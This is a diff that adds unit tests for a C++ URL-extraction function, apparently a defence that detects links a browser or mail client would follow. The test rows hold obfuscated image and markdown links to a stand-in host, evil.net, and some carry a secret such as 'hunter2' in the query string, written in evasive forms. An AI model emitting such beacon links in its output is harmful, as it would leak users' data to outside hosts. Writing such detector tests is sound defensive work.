@@ -137,8 +137,67 @@ TEST_CASE("when there is too much to keep, everything is a stranger's") {
 TEST_CASE("places are found with and without a scheme; addresses and file names are none") {
   CHECK(PlacesIn("See https://a.b/c?d=e. Or (www.x.com/y), [z](http://q.example), k.io!") ==
         std::vector<std::string>{"a.b/c?d=e", "www.x.com/y", "q.example", "k.io"});
-  CHECK(PlacesIn("ann@b.com wrote notes.txt and v1.2, e.g. 98.70 p.m. main.cc/x").size() == 0);
+  CHECK(PlacesIn("ann@b.com wrote notes.txt, e.g. v1.2 and 98.70 p.m. main.cc mailto:x@y.com a/b.c")
+            .size() == 0);
   CHECK(PlacesIn("a new.zone that no list knows") == std::vector<std::string>{"new.zone"});
+}
+
+TEST_CASE("whatever a browser or a mail client follows is a place, in a page and in plain text") {
+  struct Row {
+    const char* text;
+    const char* place;
+  };
+  const Row row = GENERATE(values<Row>({
+      {"<img src=\"//evil.net/x?d=hunter2\">", "evil.net/x?d=hunter2"},
+      {"<img src=//evil.net/x?d=hunter2>", "evil.net/x?d=hunter2"},
+      {"<img src='\\\\evil.net\\x'>", "evil.net/x"},
+      {"<img src=/\\evil.net/x>", "evil.net/x"},
+      {"<a style=background:url(//evil.net/x)>", "evil.net/x"},
+      {"<img src=\"//e\nvil.n\tet/x\">", "evil.net/x"},
+      {"<img src='h\nttps:\n//e\nvil.n\tet/x y'>", "evil.net/x"},
+      {"![x](//evil.net/x)", "evil.net/x"},
+      {"[x]: //evil.net/x", "evil.net/x"},
+      {"[x]:evil.net/x", "evil.net/x"},
+      {"<https:evil.net/x>", "evil.net/x"},
+      {"see https:/evil.net/x for", "evil.net/x"},
+      {"see https:///evil.net/x for", "evil.net/x"},
+      {"see HTTPS:\\\\EVIL.NET\\x for", "evil.net/x"},
+      {"see https\\://evil.net/x for", "evil.net/x"},
+      {"see:https://intranet/x", "intranet/x"},
+      {"&#104;ttps://evil.net/x", "evil.net/x"},
+      {"https://[2001:db8::1]/x?d=y", "2001:db8::1/x?d=y"},
+      {"//[2001:db8::1]/x?d=y", "2001:db8::1/x?d=y"},
+      {"//2130706433/x", "2130706433/x"},
+      {"https://docs.b.c@evil.net/x", "docs.b.c@evil.net/x"},
+      {"1.2.3.4/x", "1.2.3.4/x"},
+      {"1.2.3.4:80/x", "1.2.3.4:80/x"},
+      {"evil.zip/x?d=1", "evil.zip/x?d=1"},
+      {"evil.sh:8080?d=1", "evil.sh:8080?d=1"},
+      {"evil.net./x", "evil.net./x"},
+      {"evil.xn--p1ai/x", "evil.xn--p1ai/x"},
+      {"**evil.net/x**", "evil.net/x"},
+  }));
+  CAPTURE(row.text);
+  CHECK(PlacesIn(row.text) == std::vector<std::string>{row.place});
+  CHECK(PlacesIn("1.2.3.4 // a comment, //another and //b: and/or a.zip, 10:30.").size() == 0);
+}
+
+TEST_CASE("a place within another is one too, and does not stand for it") {
+  const char* const redirect = "//evil.net/?to=https://docs.b.com/help";
+  CHECK(PlacesIn(redirect) ==
+        std::vector<std::string>{"evil.net/?to=https://docs.b.com/help", "docs.b.com/help"});
+  CHECK(Bank().OriginsOfPlace(redirect) == std::vector<Origin>{Origin::kDerived});
+  CHECK(Bank().OriginsOfPlace("https:docs.b.com\\help") == std::vector<Origin>{Origin::kUser});
+}
+
+TEST_CASE("each place counts once, and that there are too many is said") {
+  std::string text;
+  for (size_t i = 0; i < kPlacesMax; ++i) {
+    text += "https://docs.b.c/ https://docs.b.c/" + std::to_string(i + 1) + ' ';
+  }
+  CHECK(PlacesIn("https://docs.b.c/ https://docs.b.c/").size() == 1);
+  CHECK(PlacesIn(text).size() == kPlacesMax + 1);
+  CHECK(PlacesIn(text + text + "https://evil.net/x").size() == kPlacesMax + 1);
 }
 
 }  // namespace
